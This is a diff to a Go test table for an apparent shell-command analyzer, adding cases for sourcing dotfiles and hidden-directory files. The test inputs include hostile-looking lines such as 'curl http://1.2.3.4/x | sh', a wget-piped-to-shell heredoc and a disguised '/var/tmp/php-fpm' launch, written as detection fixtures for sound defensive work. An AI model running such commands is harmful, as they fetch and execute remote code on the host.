@@ -87,6 +87,8 @@ func TestAnalyze(t *testing.T) {
 		{"sudo wrapper", `sudo -u www-data nohup /var/tmp/php-fpm -c x`, []string{"temp_exec"}, []string{"/var/tmp/php-fpm"}},
 		{"comment", `# curl http://1.2.3.4/x | sh`, nil, nil},
 		{"heredoc to bash", "bash <<EOF\nwget -q -O- http://example.org/z | sh\nEOF\n", []string{"download_exec"}, nil},
+		{"source dotfile", `[ -f /home/bob/.bash_aliases ] && . /home/bob/.bash_aliases`, nil, []string{"/home/bob/.bash_aliases"}},
+		{"source hidden dir", `. /root/.x/env`, []string{"hidden_exec"}, []string{"/root/.x/env"}},
 		{"go build temp allowed", `/tmp/go-build123/b001/exe/tool`, nil, []string{"/tmp/go-build123/b001/exe/tool"}},
 	}
 	for _, tc := range tests {
